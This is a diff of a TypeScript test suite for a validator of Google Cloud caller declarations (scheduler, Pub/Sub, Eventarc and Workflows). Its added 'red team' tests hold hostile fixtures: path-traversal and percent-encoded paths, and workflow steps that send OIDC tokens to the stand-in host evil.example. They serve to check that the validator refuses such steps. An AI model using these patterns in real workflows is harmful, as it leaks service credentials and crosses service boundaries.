@@ -80,16 +80,16 @@ describe("callgraph:callers", () => {
       }),
     ).toEqual([
       'callers.nightly-report.calls[0]: unknown function "reportz" (did you mean "reports"?)',
-      'callers.nightly-report.scheduler.schedule: "0 3 * *" is not a unix-cron schedule: five fields, minute hour day-of-month month day-of-week, e.g. "0 3 * * *"',
+      'callers.nightly-report.scheduler.schedule: "0 3 * *" is not a unix-cron schedule: it has 4 fields, not five. Write five fields, minute hour day-of-month month day-of-week, e.g. "0 3 * * *"',
       'callers.nightly-report.scheduler.timeZone: "Mars/Base" is not a time zone of the tz database, e.g. "Etc/UTC" or "Europe/Paris"',
       "callers.nightly-report.scheduler.body: a body is sent only with POST, PUT or PATCH (Cloud Scheduler's HttpTarget.body), and httpMethod is GET",
       "callers.orders-push.calls: a Pub/Sub push subscription calls exactly one function, got 2 (billing, reports): declare one caller per target",
       'callers.orders-push.pubsub.topic: "goog-orders" is not a topic: write a topic id this stack creates (3-255 characters, starting with a letter, not with "goog") or an existing topic\'s full name, projects/PROJECT/topics/TOPIC',
       'callers.q.tasks.enqueuers[1]: unknown function "nope": only a declared function can be given the right to add tasks',
-      'callers.q.tasks.path: "no-slash" is not a path: start it with "/", without a query, a fragment or spaces',
+      'callers.q.tasks.path: "no-slash" is not a path: start it with "/", with no query, fragment, space or percent-encoding',
       'callers.ev.calls[0]: "billing" is a 1st-gen function: Eventarc delivers to Cloud Run services, so only 2nd-gen functions (generation: 2) can be its target',
       "callers.ev.eventarc.filters.type: the event type is eventType, not a filter: move it there",
-      'callers.ev.eventarc.filters.Bad-Name: "Bad-Name" is not a CloudEvents attribute name (lowercase letters and digits, e.g. bucket)',
+      'callers.ev.eventarc.filters.Bad-Name: "Bad-Name" is not an event attribute name (letters and digits, e.g. bucket or serviceName)',
       "callers.both: declares scheduler and pubsub: a caller is exactly one source (declare one caller per source)",
       'callers.api: "api" is also a function: a caller and a function may not share a name (graphs, logs and the handler\'s caller would not tell them apart)',
       "callers.api.calls: calls no function: name the function it calls",
@@ -99,6 +99,46 @@ describe("callgraph:callers", () => {
       'callers.typo.call: unknown key "call" (did you mean "calls"?) (allowed: calls, scheduler, pubsub, tasks, workflow, eventarc)',
       'callers.Upper: invalid caller name "Upper": use lowercase letters, digits and hyphens, starting with a letter and not ending with a hyphen (at most 49 characters)',
     ]);
+  });
+
+  test("red team: schedules, time zones, subscription names, event filters and paths GCP would refuse", () => {
+    const found = problems({
+      ranges: { scheduler: { schedule: "99 99 99 99 99" }, calls: ["reports"] },
+      words: { scheduler: { schedule: "a b c d e" }, calls: ["reports"] },
+      backwards: { scheduler: { schedule: "0 5-3 * JAN-MAR MON-FRI" }, calls: ["reports"] },
+      lower: { scheduler: { schedule: "*/15 * * * *", timeZone: "europe/paris" }, calls: ["reports"] },
+      ab: { pubsub: { topic: "orders" }, calls: ["reports"] },
+      "goog-feed": { pubsub: { topic: "orders" }, calls: ["reports"] },
+      audit: {
+        eventarc: {
+          eventType: "google.cloud.audit.log.v1.written",
+          filters: { serviceName: "storage.googleapis.com", methodName: "" },
+        },
+        calls: ["reports"],
+      },
+      climb: { scheduler: { schedule: "0 3 * * *", path: "/../../payments" }, calls: ["reports"] },
+      encoded: { scheduler: { schedule: "0 3 * * *", path: "/%2e%2e/payments" }, calls: ["reports"] },
+    });
+    expect(found).toEqual([
+      'callers.ranges.scheduler.schedule: "99 99 99 99 99" is not a unix-cron schedule: its minute "99" is not from 0 to 59. Write five fields, minute hour day-of-month month day-of-week, e.g. "0 3 * * *"',
+      'callers.words.scheduler.schedule: "a b c d e" is not a unix-cron schedule: its minute "a" is not from 0 to 59. Write five fields, minute hour day-of-month month day-of-week, e.g. "0 3 * * *"',
+      'callers.backwards.scheduler.schedule: "0 5-3 * JAN-MAR MON-FRI" is not a unix-cron schedule: its hour "5-3" is a range that ends before it starts. Write five fields, minute hour day-of-month month day-of-week, e.g. "0 3 * * *"',
+      'callers.lower.scheduler.timeZone: "europe/paris" is not spelled as the tz database spells it: write "Europe/Paris"',
+      'callers.ab: "ab" names its Pub/Sub subscription, which takes 3 to 255 characters not starting with "goog": rename the caller',
+      'callers.goog-feed: "goog-feed" names its Pub/Sub subscription, which takes 3 to 255 characters not starting with "goog": rename the caller',
+      "callers.audit.eventarc.filters.methodName: is empty: give the value events must have",
+      'callers.climb.scheduler.path: "/../../payments" has a "." or ".." segment: below its callee\'s URL, it could reach another function\'s',
+      'callers.encoded.scheduler.path: "/%2e%2e/payments" is not a path: start it with "/", with no query, fragment, space or percent-encoding',
+    ]);
+    // What GCP takes is taken: names, ranges, steps and lists.
+    expect(
+      problems({
+        ok: {
+          scheduler: { schedule: "0,30 9-17/2 1-31 JAN-DEC 0-7", timeZone: "Etc/UTC" },
+          calls: ["reports"],
+        },
+      }),
+    ).toEqual([]);
   });
 
   test("a callers value that is not a map is refused by its key", () => {
@@ -223,11 +263,48 @@ describe("callgraph:callers", () => {
       expect(problems(declare(["reports", "api"]), { workflowDocument: read(document) })).toEqual([
         'callers.chain.workflow.source: flows/chain.yaml, step main.steps[0].s0: http.post calls "payments", which the workflow does not declare: add it to calls, or remove the step',
         "callers.chain.workflow.source: flows/chain.yaml, step main.steps[1].s1: http.post reads CALLGRAPH_URL_REPORTS without auth: {type: OIDC}: a function is called with the workflow's ID token, or it refuses the call",
-        'callers.chain.workflow.source: flows/chain.yaml, step main.steps[2].s2: http.post authenticates with OIDC, so its url must read exactly one declared callee\'s URL, ${sys.get_env("CALLGRAPH_URL_<NAME>")} (declared: CALLGRAPH_URL_REPORTS, CALLGRAPH_URL_API), got "https://evil.example/x"',
+        'callers.chain.workflow.source: flows/chain.yaml, step main.steps[2].s2: http.post authenticates with OIDC, so its url must be one declared callee\'s URL, ${sys.get_env("CALLGRAPH_URL_<NAME>")}, or that URL and a literal path (${sys.get_env("CALLGRAPH_URL_<NAME>") + "/path"}), nothing before it (declared: CALLGRAPH_URL_REPORTS, CALLGRAPH_URL_API), got "https://evil.example/x"',
         "callers.chain.workflow.source: flows/chain.yaml, step main.steps[3].s3: http.post calls a path below reports's URL: set auth.audience to ${sys.get_env(\"CALLGRAPH_URL_REPORTS\")}, since the token's audience defaults to the whole url and reports accepts only its own URL",
         "callers.chain.workflow.source: flows/chain.yaml, step main.steps[4].s4: http.post calls CALLGRAPH_URL_NOPE, which is no function's URL: add it to calls, or remove the step",
         'callers.chain.calls[1]: the workflow (flows/chain.yaml) has no http.* step with auth: {type: OIDC} calling ${sys.get_env("CALLGRAPH_URL_API")}: remove "api" from calls, or call it',
       ]);
+    });
+
+    test("red team: a token is never sent where a url only reads the callee's variable, nor through what cannot be read", () => {
+      const document = flow(
+        // The callee's URL in the query of another host: the token's audience would be the callee's, its holder evil.
+        step('${"https://evil.example/?u=" + sys.get_env("CALLGRAPH_URL_REPORTS")}', {
+          type: "OIDC",
+          audience: '${sys.get_env("CALLGRAPH_URL_REPORTS")}',
+        }),
+        {
+          call: "http.post",
+          args: { url: '${sys.get_env("CALLGRAPH_URL_REPORTS")}', auth: '${{"type": "OIDC"}}' },
+        },
+        step("https://evil.example/", { type: "oidc", audience: "https://reports" }),
+        step('${sys.get_env("CALLGRAPH_URL_REPORTS") + "/../other"}', {
+          type: "OIDC",
+          audience: '${sys.get_env("CALLGRAPH_URL_REPORTS")}',
+        }),
+        step('${sys.get_env("CALLGRAPH_URL_REPORTS")}', { type: "OIDC", audience: "https://evil.example" }),
+        step("https://evil.example/", {
+          type: "OAuth2",
+          audience: '${sys.get_env("CALLGRAPH_URL_REPORTS")}',
+        }),
+      );
+      const found = problems(declare(["reports"]), { workflowDocument: read(document) });
+      expect(
+        found.map((p) =>
+          p.replace(
+            /^callers\.chain\.workflow\.source: flows\/chain\.yaml, step main\.steps\[(\d)\].*$/,
+            "step $1",
+          ),
+        ),
+      ).toEqual(["step 0", "step 1", "step 2", "step 3", "step 4", "step 5"]);
+      expect(found[1]).toMatch(/writes its auth as an expression/);
+      expect(found[2]).toMatch(/writes auth\.type "oidc": Workflows spells it OIDC/);
+      expect(found[3]).toMatch(/a path with "\." or "\.\." segments may leave its callee/);
+      expect(found[4]).toMatch(/sets auth\.audience "https:\/\/evil\.example": it must be/);
     });
 
     test("a source outside the project, or one that cannot be read, is refused before its steps", () => {
